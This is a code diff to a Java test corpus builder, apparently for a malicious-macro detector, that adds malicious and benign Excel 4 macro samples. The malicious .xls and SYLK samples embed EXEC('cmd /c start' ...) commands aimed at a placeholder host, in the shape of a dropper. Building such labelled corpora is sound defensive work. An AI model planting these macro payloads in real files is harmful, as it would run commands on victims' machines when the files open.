@@ -59,6 +59,7 @@ public final class DropperCorpus {
     public static List<Sample> samples(long seed) {
         List<Sample> samples = new ArrayList<>(malicious(new Random(seed)));
         samples.addAll(benignMacros());
+        samples.addAll(benignXlm());
         return samples;
     }
 
@@ -97,10 +98,11 @@ public final class DropperCorpus {
             samples.add(new Sample("malicious", "%02d-xlm-%s.xlsm".formatted(++n, sheet[0]),
                     OfficeFiles.xlsmWithXlmFormulas(formulas)));
         }
-        // BIFF8 formulas need a full macro sheet substream; the structure alone (a macro sheet
-        // and a cell named Auto_Open) is what the .xls variant offers.
-        samples.add(new Sample("malicious", "%02d-xlm-auto-open-sheet.xls".formatted(++n),
-                OfficeFiles.xls(Map.of(), true, true)));
+        // Excel 97-2003 and SYLK (text Excel opens whatever its name) carry the same macros.
+        samples.add(new Sample("malicious", "%02d-xlm-exec-legacy.xls".formatted(++n),
+                OfficeFiles.xlsWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/l\")", "HALT()")));
+        samples.add(new Sample("malicious", "%02d-xlm-exec-sylk.slk".formatted(++n),
+                OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/s\")", "HALT()")));
         return samples;
     }
 
@@ -136,6 +138,18 @@ public final class DropperCorpus {
             }
         }
         return samples;
+    }
+
+    /**
+     * Excel 4 macro sheets as old workbooks have them: an Auto_Open macro that computes and
+     * formats, in .xls and .xlsm.
+     */
+    static List<Sample> benignXlm() {
+        String[] formulas = {"SELECT(!B2:B40)", "FORMAT.NUMBER(\"#,##0.00\")", "SET.VALUE(!C1,SUM(!B2:B40))",
+            "GET.WORKSPACE(2)", "RETURN()"};
+        return List.of(new Sample("benign-macros", "xlm-auto-open-totals.xls", OfficeFiles.xlsWithXlmFormulas(
+                        "SUM(B2:B40)", "GET.WORKSPACE(2)", "RETURN(TRUE)")),
+                new Sample("benign-macros", "xlm-auto-open-totals.xlsm", OfficeFiles.xlsmWithXlmFormulas(formulas)));
     }
 
     private static Map<String, String> emptyProject(App app) {
